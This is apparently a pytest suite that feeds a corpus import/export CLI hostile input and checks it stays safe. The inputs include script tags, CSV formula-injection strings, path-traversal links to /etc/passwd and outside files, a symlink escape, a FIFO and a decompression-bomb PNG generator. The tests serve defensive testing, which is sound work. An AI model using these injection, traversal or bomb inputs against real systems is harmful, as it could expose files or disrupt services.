"""Hostile input through the real CLI: text stays text, links stay inside the chosen
folders, damaged images are flagged, and every export format parses back. Each command
runs under a timeout (nothing may hang: FIFOs, devices, decompression bombs).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import zlib
from pathlib import Path
from xml.etree import ElementTree

import bagit
import pytest
from lxml import etree

from app.storage.db import open_project

from .conftest import assert_one_line_error, curator

NASTY = [
    "<b>粗体</b> 标题 <script>alert(1)</script>",
    "OCR 噪声 a<b 与 c>d &amp; &lt; ]]> <!-- 注释 -->",
    '<img src="/etc/passwd"> 照片 <a href="file:///etc/passwd">点我</a>',
    "控制字符\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f结束",
    "NUL\x00在中间",
    "从右到左\u202e\u200f\u061c反转\u202c文字\u2066隔离\u2069",
    "零宽\u200b\u200c\u200d\ufeff字符",
    "行分隔\u2028段分隔\u2029NEL\x85结束",
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "+1+1",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "'=x",
    "未闭合的括号【【【（（（((( 和 】】】）））)))",
    "# 标题\n* 列表\n> 引用\n1. 编号\n```代码```",
    "\U00020bb7 𠮷 兼容汉字\uf9d1 半角,逗号(括号)",
]

LINKS = [
    "/etc/passwd",
    "../secret.jpg",
    "../../../../../../etc/passwd",
    "images/../../secret.jpg",
    "http://example.invalid/a.jpg",
    "file:///etc/passwd",
    "/dev/zero",
    "/dev/stdin",
    "images/fifo.jpg",
    "images/escape.jpg",
    "images/bomb.png",
    "images/truncated.jpg",
    "images/zero.jpg",
    "images/text.jpg",
    "images/good.jpg",
    "images/dir.jpg",
    "C:\\Windows\\win.ini",
    "\\\\server\\share\\x.jpg",
    "%2e%2e/secret.jpg",
    "images/x.jpg\x01",
]


def _bomb_png(path: Path, width: int = 100_000, height: int = 100_000) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1024)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


@pytest.fixture
def hostile_volume(tmp_path) -> tuple[Path, Path]:
    from tests.paths import IMAGES

    root = tmp_path / "in"
    images = root / "images"
    images.mkdir(parents=True)
    # Outside both allowed folders (the images folder and the source's own folder).
    (tmp_path / "secret.jpg").write_bytes(b"SECRET-OUTSIDE-THE-IMAGE-FOLDER")
    good = next(IMAGES.glob("*.jpg")).read_bytes()
    (images / "good.jpg").write_bytes(good)
    (images / "truncated.jpg").write_bytes(good[: len(good) // 2])
    (images / "zero.jpg").write_bytes(b"")
    (images / "text.jpg").write_text("<html>不是图片</html>", encoding="utf-8")
    (images / "dir.jpg").mkdir()
    _bomb_png(images / "bomb.png")
    os.mkfifo(images / "fifo.jpg")
    os.symlink("/etc/passwd", images / "escape.jpg")
    # Ordinary text first: the binary sniffing looks at the first 64 KiB, and a stray
    # NUL or control character further in must travel through import and export.
    parts = [f"【简讯{i}】\n本年安置下岗职工1\n800人。\n(陈晖)\n" for i in range(1500)]
    for i, text in enumerate(NASTY):
        parts.append(f"【{text.splitlines()[0][:60] or '空'}】\n正文{i}：{text}。\n")
        parts.append("(陈晖)\n" if i % 2 else "")
        link = LINKS[i % len(LINKS)]
        parts.append(f"![image]({link})\n图注{i}：{text.splitlines()[0]}(张鸿祥摄)\n")
    for link in LINKS[len(NASTY) :]:
        parts.append(f"【链接{link[:20]}】\n正文。\n![image]({link})\n图注(摄影者摄)\n")
    source = root / "hostile.txt"
    text = "".join(parts)
    source.write_bytes(text.encode("utf-8"))
    assert len(text.encode("utf-8")) > 70_000
    return source, images


def _outside_untouched(tmp_path: Path) -> None:
    assert (tmp_path / "secret.jpg").read_bytes() == b"SECRET-OUTSIDE-THE-IMAGE-FOLDER"


def _check_export(path: Path, fmt: str, entries: int) -> None:
    data = path.read_bytes()
    assert b"SECRET-OUTSIDE" not in data
    assert b"root:x:0:0" not in data
    if fmt == "jsonl":
        lines = data.decode("utf-8").split("\n")
        assert lines[-1] == ""
        records = [json.loads(line) for line in lines[:-1]]
        assert len(records) == entries
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert len(rows) == entries + 1
        for row in rows[1:]:
            for cell in row[1:]:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\0")), cell
    elif fmt == "tei":
        tree = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
        ElementTree.fromstring(data)
        assert tree.tag.endswith("TEI")
        assert b"<script" not in data and b"<img" not in data
    else:
        data.decode("utf-8")


def test_hostile_volume_imports_and_exports_in_every_format(tmp_path, hostile_volume):
    source, images = hostile_volume
    db = tmp_path / "p.db"
    result = curator("import", str(source), "--db", str(db), "--images", str(images), timeout=60)
    if result.returncode != 0:  # a refusal is allowed, but as one clear line
        assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
        pytest.fail(f"the hostile volume was refused: {result.stderr}")
    with open_project(db, readonly=True) as p:
        entries = p.scalar("SELECT count(*) FROM entry")
        assert entries >= len(NASTY) + 1500
        bodies = "".join(r[0] for r in p.conn.execute("SELECT body FROM entry"))
        assert "\x00" in bodies and "\u202e" in bodies and "<script>" in bodies
        statuses = dict(p.conn.execute("SELECT path, file_status FROM photo"))
        files = [r[0] for r in p.conn.execute("SELECT file FROM photo WHERE file IS NOT NULL")]
        assert p.integrity() == []
    for link, status in statuses.items():
        if link == "images/good.jpg":
            assert status == "ok"
        elif link in (
            "images/truncated.jpg",
            "images/zero.jpg",
            "images/text.jpg",
            "images/bomb.png",
        ):
            assert status in ("damaged", "refused"), (link, status)
        else:
            assert status in ("refused", "missing"), (link, status)
    for f in files:
        assert Path(f).resolve().is_relative_to(images.resolve()), f
    _outside_untouched(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    for fmt, ext in (
        ("md", "md"),
        ("jsonl", "jsonl"),
        ("csv", "csv"),
        ("tei", "xml"),
        ("txt", "txt"),
    ):
        for extra in ([], ["--original"]):
            target = out / f"corpus{'-orig' if extra else ''}.{ext}"
            r = curator(
                "export", "--db", str(db), "--format", fmt, "--out", str(target), *extra, timeout=60
            )
            assert r.returncode == 0, r.stderr
            _check_export(target, fmt, entries)
            if fmt == "md" and not extra:  # the original layer is the source, byte for byte
                assert not re.search(r"(?<!\\)<script", target.read_text(encoding="utf-8"))
        bag = out / f"bag-{fmt}"
        r = curator(
            "export", "--db", str(db), "--format", fmt, "--bagit", "--out", str(bag), timeout=60
        )
        assert r.returncode == 0, r.stderr

        bagit.Bag(str(bag)).validate()
        for f in bag.rglob("*"):
            assert f.resolve().is_relative_to(bag.resolve()), f
            if f.is_file():
                assert b"SECRET-OUTSIDE" not in f.read_bytes()
                assert b"root:x:0:0" not in f.read_bytes()
    # Nothing was written outside the chosen output folder.
    assert {p.name for p in tmp_path.iterdir()} <= {
        *("in", "out", "secret.jpg", "p.db", "p.db-shm", "p.db-wal")
    }
    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == ["hostile.txt", "images"]
    _outside_untouched(tmp_path)


def test_a_ten_megabyte_line(tmp_path):
    source = tmp_path / "long.txt"
    line = ("工会" * 7 + "1 800人,(1)") * 200_000
    source.write_text(f"【超长的一行】\n{line}\n(陈晖)\n", encoding="utf-8")
    assert source.stat().st_size > 10_000_000
    db = tmp_path / "p.db"
    r = curator("import", str(source), "--db", str(db), timeout=150)
    assert r.returncode == 0, r.stderr
    out = tmp_path / "o.jsonl"
    r = curator("export", "--db", str(db), "--format", "jsonl", "--out", str(out), timeout=60)
    assert r.returncode == 0, r.stderr
    (record,) = [json.loads(x) for x in out.read_text(encoding="utf-8").splitlines()]
    assert len(record["body"]) >= len(line)


@pytest.mark.parametrize(
    "data, needle",
    [
        ("【标题】\n正文\x00在中间\n".encode(), "NUL"),
        ("【标题】\n孤立代理\ud800\n".encode("utf-8", "surrogatepass"), "encoding"),
        (b"", "empty"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "PNG"),
    ],
    ids=["nul-near-start", "lone-surrogate", "empty", "png"],
)
def test_undecodable_sources_get_one_clear_line(tmp_path, data, needle):
    source = tmp_path / "bad.txt"
    source.write_bytes(data)
    db = tmp_path / "p.db"
    r = curator("import", str(source), "--db", str(db), timeout=60)
    assert_one_line_error(r, needle)
    assert not db.exists()  # a refused import into a new path leaves no project behind


def test_many_entries_without_attributions(tmp_path):
    n = 100_000
    source = tmp_path / "many.txt"
    source.write_text("".join(f"【简讯{i}】\n第{i}条。\n" for i in range(n)), encoding="utf-8")
    db = tmp_path / "p.db"
    r = curator("import", str(source), "--db", str(db), timeout=300)
    assert r.returncode == 0, r.stderr
    with open_project(db, readonly=True) as p:
        assert p.scalar("SELECT count(*) FROM entry") == n
        assert p.scalar("SELECT count(*) FROM attribution") == 0
    out = tmp_path / "o.csv"
    r = curator("export", "--db", str(db), "--format", "csv", "--out", str(out), timeout=120)
    assert r.returncode == 0, r.stderr
    with open(out, encoding="utf-8-sig", newline="") as fh:
        assert sum(1 for _ in csv.reader(fh)) == n + 1
